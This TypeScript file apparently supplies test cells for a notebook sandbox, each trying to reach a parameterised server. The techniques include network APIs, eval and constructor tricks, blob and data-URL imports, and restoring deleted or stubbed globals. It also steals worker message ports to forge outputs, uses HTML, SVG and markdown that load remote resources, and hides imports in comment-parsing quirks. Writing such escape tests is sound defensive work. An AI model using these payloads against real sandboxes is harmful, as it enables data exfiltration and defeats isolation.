/** Cells that try to reach a server, by what they try. Each is code of an asynchronous function. */
export function hostileCells(http: string): Record<string, string> {
  const ws = http.replace("http", "ws");
  const json = `'${http}', { with: { type: 'json' } }`;
  return Object.fromEntries([
    ...reaching(http, ws),
    ...inText(`import('${http}')`),
    ...inText(`import(${json})`).slice(0, 2),
    ...inText(`fetch('${http}')`).slice(0, 2),
    ...inModules(http),
    ...inWorkers(http, ws),
    ...shown(http),
  ]);
}

type Named = [name: string, code: string];

/** The functions of the platform, as they are and as a cell finds them on prototypes. */
function reaching(http: string, ws: string): Named[] {
  const prototype = "Object.getPrototypeOf(Object.getPrototypeOf(self))";
  const original = (name: string) =>
    `Reflect.get([self, Object.getPrototypeOf(self), ${prototype}].find((at) => Object.hasOwn(at, "${name}")) ?? self, "${name}", self)`;
  return [
    ["fetch", `await fetch("${http}")`],
    ["fetch without CORS", `await fetch("${http}", { mode: "no-cors", credentials: "include" })`],
    [
      "fetch that outlives",
      `await fetch("${http}", { method: "POST", body: "a", keepalive: true })`,
    ],
    ["fetch of a prototype", `await ${prototype}.fetch.call(self, "${http}")`],
    ["a deleted stub", `delete (self as any).fetch; await fetch("${http}")`],
    ["a request", `await (${original("fetch")} as any)(new Request("${http}"))`],
    ["a streamed compilation", `await WebAssembly.compileStreaming(fetch("${http}"))`],
    ["XMLHttpRequest", `const x = new XMLHttpRequest(); x.open("GET", "${http}"); x.send()`],
    [
      "a synchronous request",
      `delete (self as any).XMLHttpRequest; const x = new XMLHttpRequest(); x.open("GET", "${http}", false); x.send()`,
    ],
    ["WebSocket", `new WebSocket("${ws}")`],
    ["a deleted WebSocket", `delete (self as any).WebSocket; new WebSocket("${ws}")`],
    [
      "WebSocketStream",
      `delete (self as any).WebSocketStream; await new WebSocketStream("${ws}").opened`,
    ],
    [
      "WebTransport",
      `delete (self as any).WebTransport; await new WebTransport("${http.replace("http:", "https:")}").ready`,
    ],
    ["EventSource", `new EventSource("${http}")`],
    ["a deleted EventSource", `delete (self as any).EventSource; new EventSource("${http}")`],
    ["importScripts", `importScripts("${http}")`],
    ["a deleted importScripts", `delete (self as any).importScripts; importScripts("${http}")`],
    [
      "importScripts of a prototype",
      `WorkerGlobalScope.prototype.importScripts.call(self, "${http}")`,
    ],
    ["a font", `await new FontFace("a", "url(${http})").load()`],
    [
      "a deleted stub of fonts",
      `delete (self as any).FontFace; const f = new FontFace("a", "url(${http})"); fonts.add(f); await f.load()`,
    ],
    ["sendBeacon", `navigator.sendBeacon("${http}")`],
    [
      "WebRTC",
      `const c = new RTCPeerConnection({ iceServers: [{ urls: "turn:${http.slice(7, -1)}?transport=tcp", username: "a", credential: "b" }] }); c.createDataChannel("a"); await c.setLocalDescription()`,
    ],
    ["a cache", `delete (self as any).caches; await (await caches.open("a")).add("${http}")`],
    [
      "a service worker",
      `delete (navigator as any).serviceWorker; await navigator.serviceWorker.register("${http}")`,
    ],
    [
      "a report",
      `new ReportingObserver(() => {}, {}).observe(); self.reportError(new Error("${http}"))`,
    ],
    ["a window", `open("${http}")`],
    ["a new location", `location.href = "${http}"`],
    ["a replaced location", `location = "${http}" as any`],
    ["a location of the parent", `parent.location = "${http}" as any`],
    ["an image", `new Image().src = "${http}"`],
    ["a bitmap", `await createImageBitmap(await (await fetch("${http}")).blob())`],
    [
      "a notification",
      `delete (self as any).Notification; new Notification("a", { icon: "${http}" })`,
    ],
    [
      "a message to the frame",
      `postMessage({ frameContent: "<img src='${http}'>", cellsFailed: "<img src='${http}'>" })`,
    ],
    [
      "a channel to other pages",
      `delete (self as any).BroadcastChannel; new BroadcastChannel("a").postMessage("${http}")`,
    ],
    [
      "a stolen port",
      stolenPort(`this.post(["${http}", "//${http.slice(7)}", "../page.js", "./none.js"])`),
    ],
    [
      "a forged output",
      stolenPort(
        `this.post([{ run: 1, output: { type: "display_data", content: { data: { "text/html": "<img src='${http}'>" }, metadata: {} } } }])`,
      ),
    ],
    [
      "a forged end",
      stolenPort(
        `this.post([{ run: 1e9, ended: "ok", known: "${http}" }, { run: 1e9, ended: "ok", known: { length: 1e9 } }])`,
      ),
    ],
  ];
}

/** Takes the ports of the worker from its own messages, and does something with them. */
const stolenPort = (act: string): string =>
  `const { postMessage } = MessagePort.prototype, ports = new Set<any>();
const thief = { post: (messages: unknown[]) => { for (const port of ports) for (const message of messages) postMessage.call(port, message) } };
MessagePort.prototype.postMessage = function (...all: any) { ports.add(this); return postMessage.apply(this, all) };
console.log("a"); await new Promise((go) => setTimeout(go, 150));
MessagePort.prototype.postMessage = postMessage;
(function (this: any) { ${act} }).call(thief)`;

/** The ways of running text. */
function inText(code: string): Named[] {
  const text = JSON.stringify(`return ${code}`);
  const expression = JSON.stringify(code);
  const ways: Record<string, string> = {
    eval: `await eval(${expression})`,
    "indirect eval": `await (0, eval)(${expression})`,
    Function: `await Function(${text})()`,
    "new Function": `await new Function(${text})()`,
    "a constructor": `await (() => {}).constructor(${text})()`,
    "an asynchronous constructor": `await (async () => {}).constructor(${text})()`,
    "a generator's constructor": `await (function* () {}).constructor(${text})().next().value`,
    "an asynchronous generator's constructor": `await (async function* () {}).constructor(${text})().next()`,
    "an object that becomes text": `let i = 0; await Function({ toString: () => (i++ ? ${text} : ${text}) } as any)()`,
    "changed built-in methods": `const { map } = Array.prototype, { includes } = String.prototype, { test } = RegExp.prototype;
Array.prototype.map = function () { return this as any };
String.prototype.includes = RegExp.prototype.test = () => false;
try { await Function(${text})() }
finally { Array.prototype.map = map; String.prototype.includes = includes; RegExp.prototype.test = test }`,
  };
  return Object.entries(ways).map(([way, ran]) => [`${way}: ${code}`, ran]);
}

/** Timers that run text which imports. They end the tab of Firefox 153, so only Chromium runs them. */
export function textTimers(http: string): string[] {
  const text = JSON.stringify(`import("${http}")`);
  return [
    `setTimeout(${text}); await new Promise((go) => setTimeout(go, 50))`,
    `const id = setInterval(${text}); await new Promise((go) => setTimeout(go, 50)); clearInterval(id)`,
  ];
}

/** Modules made of text, which import others. */
function inModules(http: string): Named[] {
  const module = (text: string) =>
    `URL.createObjectURL(new Blob([${JSON.stringify(text)}], { type: "text/javascript" }))`;
  const imported = (text: string) => `await eval("(address) => import(address)")(${module(text)})`;
  return [
    ["an import", `await import("${http}")`],
    ["an import of data", `await import("data:text/javascript,import '${http}'")`],
    [
      "an import of data in text",
      `await eval("import('data:text/javascript,import \\"${http}\\"')")`,
    ],
    ["a blob that imports", imported(`import "${http}"`)],
    ["a blob that exports again", imported(`export * from "${http}"`)],
    ["a blob that imports JSON", imported(`import a from "${http}" with { type: "json" }`)],
    ["a blob that imports style", imported(`import a from "${http}" with { type: "css" }`)],
    ["a blob that imports later", imported(`await import("${http}")`)],
    [
      "a blob that fetches",
      imported(
        `await Object.getPrototypeOf(Object.getPrototypeOf(self)).fetch.call(self, "${http}")`,
      ),
    ],
    ["a script of the book that does not exist", `await ($load as any)("./none.js")`],
    ["a script of the book elsewhere", `await ($load as any)("${http}")`],
    ["a name of every object", `await ($load as any)("constructor")`],
    ["a source map", `eval("1 //# sourceMappingURL=${http}")`],
    ["a source's address", `eval("throw Error(1) //# sourceURL=${http}")`],
  ];
}

/** Workers inside the worker, whose globals are new. */
function inWorkers(http: string, ws: string): Named[] {
  const codes = {
    fetches: `fetch("${http}")`,
    "imports scripts": `importScripts("${http}")`,
    imports: `import("${http}")`,
    "opens a socket": `new WebSocket("${ws}")`,
    "requests synchronously": `const x = new XMLHttpRequest(); x.open("GET", "${http}", false); x.send()`,
    "listens to events": `new EventSource("${http}")`,
  };
  const started = (address: string, options = "") =>
    `delete (self as any).Worker; const w = new Worker(${address}${options}); await new Promise((go) => setTimeout(go, 150)); w.terminate()`;
  return [
    ["a worker from elsewhere", started(`"${http}"`)],
    ["a module worker from elsewhere", started(`"${http}"`, `, { type: "module" }`)],
    ["a shared worker", `delete (self as any).SharedWorker; new SharedWorker("${http}")`],
    ...Object.entries(codes).flatMap(([does, code]): Named[] => {
      const blob = `URL.createObjectURL(new Blob([${JSON.stringify(code)}], { type: "text/javascript" }))`;
      return [
        [`a worker of a blob that ${does}`, started(blob)],
        [`a module worker of a blob that ${does}`, started(blob, `, { type: "module" }`)],
        [`a worker of data that ${does}`, started(JSON.stringify(`data:text/javascript,${code}`))],
      ];
    }),
  ];
}

/** Outputs that the page shows. */
function shown(http: string): Named[] {
  const outputs: [kind: string, text: string][] = [
    ["html", `<img src="${http}">`],
    ["html", `<style>@import "${http}"</style>`],
    ["html", `<div style="background: url(${http})">a</div>`],
    ["html", `<link rel="prefetch" href="${http}">`],
    ["html", `<meta http-equiv="refresh" content="0;url=${http}">`],
    ["html", `<iframe src="${http}"></iframe>`],
    ["html", `<video src="${http}" poster="${http}" autoplay></video>`],
    ["html", `<form action="${http}"><button id="go">a</button></form>`],
    ["html", `<script>fetch("${http}"); location = "${http}"</script>`],
    ["html", `<script>new Image().src = "${http}"; open("${http}")</script>`],
    ["html", `<script>navigator.sendBeacon("${http}"); parent.location = "${http}"</script>`],
    ["svg", `<svg xmlns="http://www.w3.org/2000/svg"><image href="${http}"/></svg>`],
    ["svg", `<svg xmlns="http://www.w3.org/2000/svg"><use href="${http}#a"/></svg>`],
    [
      "svg",
      `<svg xmlns="http://www.w3.org/2000/svg"><rect width="9" height="9" fill="url(${http}#a)"/></svg>`,
    ],
    [
      "svg",
      `<svg xmlns="http://www.w3.org/2000/svg"><rect width="9" height="9" fill="\\\\75rl(${http}#a)"/></svg>`,
    ],
    [
      "svg",
      `<svg xmlns="http://www.w3.org/2000/svg"><rect width="9" height="9" clip-path="u\\\\72l(${http}#a)"/></svg>`,
    ],
    [
      "svg",
      `<svg xmlns="http://www.w3.org/2000/svg"><rect width="9" height="9" fill="image-set('${http}' 1x)"/></svg>`,
    ],
    ["markdown", `![a](${http})`],
    ["markdown", `<img src="${http}">`],
    ["markdown", `$\\\\includegraphics{${http}}$`],
  ];
  return outputs.map(([kind, text]) => [
    `${kind} ${text}`,
    `(await import("tslab")).display.${kind}(${"`"}${text}${"`"})`,
  ]);
}

/** Cells with an `import(…)` that is code in a script but part of a comment in a module. */
export function hiddenImports(http: string): string[] {
  return [
    `let a = 1, b = 1;
a <!--b/*
import("${http}0").then((m) => console.log(m))
//*/
;0; await new Promise((r) => setTimeout(r, 100));`,
    `let c = 1, d: number | undefined = 1;
const f = async () => {
  if ((c as number)<!--d!/*
  ) await import("${http}1");
  //*/) {}
};
await f()`,
    `let e = 1, g = 1;
\`\${e <!--g/*
+ import("${http}2") //*/
}\``,
    `let h = 1;
/*
*/ --> h /*
import("${http}3");
//*/`,
  ];
}
